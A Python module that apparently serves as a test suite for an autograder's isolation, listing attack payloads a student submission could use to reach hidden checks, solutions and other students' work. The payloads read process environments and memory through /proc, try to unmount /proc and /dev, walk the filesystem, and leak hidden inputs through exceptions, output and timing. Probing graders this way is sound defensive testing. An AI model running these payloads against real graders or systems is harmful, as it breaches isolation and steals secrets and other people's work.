"""Looking at what a student must not see: hidden checks, solutions, other students."""

from ..course_of_malformed import HOMEWORK
from .corpus import LIBC, TELL, WRONG, Attack, forging

FILES = """
import glob, os
for top in ("@ROOT@/", "../../../"):
    for path in glob.glob(top + "{what}", recursive=True):
        try:
            tell(open(path, errors="ignore").read())
        except OSError:
            pass
"""
WALK = """
import os, time
until = time.monotonic() + 2
for top in ("/root", "/home", "/tmp", "/var", "/srv", "/mnt", "/etc", "/course-package", "/run"):
    for folder, inside, names in os.walk(top):
        inside[:] = [i for i in inside if i not in ("site-packages", "node_modules", "lib")]
        if time.monotonic() > until:
            break
        for name in names:
            if name.endswith((".ipynb", ".db", ".py", ".txt")):
                try:
                    tell(open(os.path.join(folder, name), errors="ignore").read(2_000_000))
                except OSError:
                    pass
"""
SPY = """
SEEN = []
def double(amounts):
    import gc, inspect, sys
    SEEN.append(str(get_ipython().user_ns.get("In")))
    frame = sys._getframe()
    while frame:
        SEEN.append(str({k: v for k, v in frame.f_locals.items() if k not in ("SEEN", "amounts")}))
        try:
            SEEN.append(inspect.getsource(frame.f_code))
        except OSError:
            pass
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) in (dict, list) and len(thing) < 50 and thing is not SEEN:
            SEEN.append(str([t for t in thing if isinstance(t, str)])[:2_000])
    return [0 for amount in amounts]
"""
PROC = """
import glob
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        tell(open(path, errors="ignore").read())
    except OSError:
        pass
import os
tell(os.environ)
"""
MEMORY = """
import glob, re
for maps in glob.glob("/proc/[0-9]*/maps")[:20]:
    if maps == f"/proc/{os.getpid()}/maps":
        continue
    try:
        memory = open(maps.replace("maps", "mem"), "rb", 0)
        for line in open(maps):
            low, high, kind = re.match("(\\\\w+)-(\\\\w+) (\\\\S+)", line).groups()
            if "rw" in kind and int(high, 16) - int(low, 16) < 2**26:
                memory.seek(int(low, 16))
                tell(memory.read(int(high, 16) - int(low, 16)))
    except OSError:
        pass
"""
UNMOUNT = """
for folder in (b"/proc", b"/scratch", b"/dev/shm", b"/dev"):
    if libc.umount2(folder, 2) == 0:
        print("WRO" "TE: no longer mounted", folder)
"""
NAMES = "tell([h for h in HEARD if h.get('do') == 'look'])"
INPUTS = """
SEEN = []
def double(amounts):
    SEEN.append(list(amounts))
    return [0 for amount in amounts]
"""
RAISES = "def double(amounts):\n    raise ValueError(f'amounts were {amounts}')"
ENCODED = (
    "def double(amounts):\n"
    "    raise ValueError('+'.join(str(amount * 2) for amount in amounts) + str(amounts))"
)
PRINTS = "def double(amounts):\n    print('amounts', amounts)\n    return amounts"
RETURNS = "def double(amounts):\n    return [str(amounts)] * 2"
NAMED = """
def double(amounts):
    raise type(f"Seen{amounts[0]}", (Exception,), {})()
"""
HIDDEN_MARKS = """
### BEGIN HIDDEN TESTS
def double(amounts):
    print(amounts)
    return [0 for amount in amounts]
### END HIDDEN TESTS
"""
WHEEL = """
import importlib.metadata, importlib.util, pkgutil, course, sys
for folder in list(course.__path__) + sys.path:
    for found in pkgutil.walk_packages([folder]) if "course" in folder else ():
        if "lessons" in found.name or "answers" in found.name or "grading" in found.name:
            print("LEA" "KED: module", found.name)
for name in ("course.lessons", "course.grading", "course.proof"):
    try:
        __import__(name)
        print("LEA" "KED: import", name)
    except ImportError:
        pass
"""
TIMING = """
import time
def double(amounts):
    if len(amounts) > 1:
        time.sleep(0.5)
    return [0 for amount in amounts]
"""

ATTACKS = [
    Attack("reading-env", "the grader's environment", WRONG, TELL + PROC, needs_walls=True),
    Attack("reading-feedback-encoded", "hidden inputs in a message", ENCODED),
    Attack("reading-feedback-marks", "hidden marks in an answer", HIDDEN_MARKS),
    Attack("reading-feedback-name", "hidden inputs in an exception's name", NAMED),
    Attack("reading-feedback-printed", "hidden inputs on stdout", PRINTS),
    Attack("reading-feedback-raised", "hidden inputs in an exception", RAISES),
    Attack("reading-feedback-returned", "hidden inputs in the result", RETURNS),
    Attack(
        "reading-frames",
        "the check's frames, In and objects",
        SPY,
        last=TELL + 'tell(str(SEEN).replace("7411" + "47", "").replace("14822" + "94", ""))',
    ),
    Attack("reading-inputs", "hidden inputs, printed by a later cell", INPUTS, last="print(SEEN)"),
    Attack(
        "reading-link",
        "a link to the solutions beside the notebook",
        WRONG,
        TELL + "import os\nfor name in os.listdir():\n    if name.endswith('.txt'):\n"
        "        tell(open(name).read())\n",
        links={"answers.txt": f"../../../source/{HOMEWORK}/{HOMEWORK}.ipynb"},
    ),
    Attack(
        "reading-memory",
        "the trusted process's memory",
        WRONG,
        LIBC + "libc.umount2(b'/proc', 2)\n" + TELL + MEMORY,
        needs_walls=True,
    ),
    Attack(
        "reading-messages",
        "names in the hidden check, from the questions",
        WRONG,
        forging("return answer"),
        last=TELL + NAMES,
    ),
    Attack(
        "reading-source",
        "source/ of the course",
        WRONG,
        TELL + FILES.replace("{what}", "source/**/*"),
    ),
    Attack(
        "reading-students",
        "other students' work",
        WRONG,
        TELL
        + FILES.replace("{what}", "submitted/**/*")
        + FILES.replace("{what}", "autograded/**/*"),
    ),
    Attack("reading-timing", "a pause that depends on hidden inputs", TIMING),
    Attack(
        "reading-unmounted", "what lies under the walls", WRONG, LIBC + UNMOUNT, needs_walls=True
    ),
    Attack("reading-walk", "anything on the disk", WRONG, TELL + WALK, needs_walls=True),
    Attack("reading-wheel", "solutions in the installed package", WRONG, WHEEL),
]
